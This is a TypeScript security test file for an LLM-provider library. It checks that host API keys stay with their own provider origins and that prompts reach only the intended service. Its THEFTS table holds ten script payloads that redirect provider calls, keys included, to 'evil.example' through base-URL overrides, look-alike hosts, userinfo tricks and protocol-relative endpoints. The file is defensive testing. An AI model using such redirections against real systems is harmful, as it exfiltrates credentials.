// Keys of the host, used by scripts that name another address for them; and prompts, which go where the script says or nowhere.

import { llmProvider, memoryProcess } from '@bridle/stdlib-tools'
import { must, makeCases, runToText } from '../../attempt.js'

const KEYS = {
  ANTHROPIC_API_KEY: 'sk-anthropic-1',
  OPENAI_API_KEY: 'sk-openai-2',
  OPENROUTER_API_KEY: 'sk-router-3',
  DATABASE_URL: 'postgres://u:p@db/x',
}

interface Sent {
  readonly origin: string
  /** Headers, address and body: wherever a key may be. */
  readonly all: string
}

/** Every request that the real client sent while the script ran, and the run's output. */
async function captureRequests(
  source: string,
  env: Readonly<Record<string, string>> = KEYS,
): Promise<{ sent: readonly Sent[]; text: string }> {
  const sent: Sent[] = []
  const body = JSON.stringify({ choices: [{ message: { content: 'done' } }], content: [{ type: 'text', text: 'done' }] })
  const send: typeof fetch = async (input, init) => {
    const url = input instanceof Request ? input.url : String(input)
    sent.push({ origin: new URL(url).origin, all: JSON.stringify([url, [...new Headers(init?.headers)], String(init?.body)]) })
    await Promise.resolve()
    return new Response(body, { status: 200, headers: { 'content-type': 'application/json' } })
  }
  const text = await runToText(source, { providers: [llmProvider({ env, fetch: send }), memoryProcess({ env })], grants: ['*'] })
  return { sent, text }
}

const ask = (options: string): string =>
  `println(try { llm_call("my secret plan", nil, {${options}}).text } catch (e) { e?.message ?? e })`

const EVIL = 'https://evil.example'

/** Each would send a key of the host to `EVIL`. */
const THEFTS: Readonly<Record<string, string>> = {
  'a provider of another address': `provider_register("anthropic", {base_url: "${EVIL}"})\n${ask('provider: "anthropic", model: "m"')}`,
  'the option of an address': ask(`provider: "openai", model: "m", base_url: "${EVIL}/v1"`),
  'a variable by name': `provider_register("mine", {base_url: "${EVIL}", auth_env: "DATABASE_URL"})\n${ask('provider: "mine", model: "m"')}`,
  'variables by name': `provider_register("mine", {base_url: "${EVIL}", auth_envs: ["NONE", "OPENAI_API_KEY"]})\n${ask('provider: "mine", model: "m"')}`,
  'another header': `provider_register("openai", {base_url: "${EVIL}", auth_style: "header", auth_header: "x-key", auth_envs: ["ANTHROPIC_API_KEY"]})\n${ask('provider: "openai", model: "m"')}`,
  'a host that begins alike': `provider_register("openai", {base_url: "https://api.openai.com.evil.example/v1"})\n${ask('provider: "openai", model: "m"')}`,
  'a user before the host': `provider_register("openai", {base_url: "https://api.openai.com@evil.example/v1"})\n${ask('provider: "openai", model: "m"')}`,
  'a path that leads away': `provider_register("openai", {chat_endpoint: "//evil.example/x"})\n${ask('provider: "openai", model: "m"')}`,
  'an endpoint that goes on with the host': `provider_register("openai", {base_url: "https://api.openai.com", chat_endpoint: ".evil.example/x"})\n${ask('provider: "openai", model: "m"')}`,
  'no encryption': `provider_register("openai", {base_url: "http://api.openai.com/v1"})\n${ask('provider: "openai", model: "m"')}`,
}

/** The origin that a prompt may reach, null for none. */
const PROMPTS: Readonly<
  Record<string, readonly [options: string, origin: string | null, env?: Readonly<Record<string, string>>]>
> = {
  'a model of OpenAI': ['model: "openai/gpt-4"', 'https://api.openai.com'],
  'a model of OpenRouter': ['model: "openrouter/deepseek/chat"', 'https://openrouter.ai'],
  'a provider beside its model': ['provider: "anthropic", model: "claude-sonnet-4-20250514"', 'https://api.anthropic.com'],
  'a provider before the vendor in the name': ['provider: "openrouter", model: "openai/gpt-4"', 'https://openrouter.ai'],
  'a service that nobody knows': ['model: "a/b/c"', null],
  'a provider that nobody registered': ['provider: "mystery", model: "gpt-4"', null],
  'a service without its key, beside keys of others': ['model: "openai/gpt-4"', null, { ANTHROPIC_API_KEY: 'sk-anthropic-1' }],
  'an address that is none': ['provider: "openai", model: "m", base_url: "not an address"', null],
  'an empty provider': ['provider: "", model: "a/b/c"', null],
}

export const cases = [
  ...makeCases(
    'keys-stay-with-origin',
    Object.fromEntries(
      Object.entries(THEFTS).map(([name, source]) => [
        name,
        async () => {
          const { sent, text } = await captureRequests(source)
          const lost = sent.filter(({ origin, all }) => {
            const isHome = ['https://api.openai.com', 'https://api.anthropic.com'].includes(origin)
            return !isHome && Object.values(KEYS).some((key) => all.includes(key))
          })
          must(lost.length === 0, `sent to ${lost.map(({ origin, all }) => `${origin}: ${all}`).join()}`)
          must(!Object.values(KEYS).some((key) => text.includes(key)), `says ${text}`)
        },
      ]),
    ),
  ),
  ...makeCases(
    'prompts-go-where-said',
    Object.fromEntries(
      Object.entries(PROMPTS).map(([name, [options, origin, env]]) => [
        name,
        async () => {
          const { sent, text } = await captureRequests(ask(options), env)
          const reached = [...new Set(sent.map((each) => each.origin))]
          must(
            reached.join() === (origin ?? ''),
            `reached ${reached.join() || 'nobody'}, may reach ${origin ?? 'nobody'}: ${text}`,
          )
          if (origin === null) must(!/done\n$/.test(text), `does not say that it went nowhere: ${text}`)
        },
      ]),
    ),
  ),
]
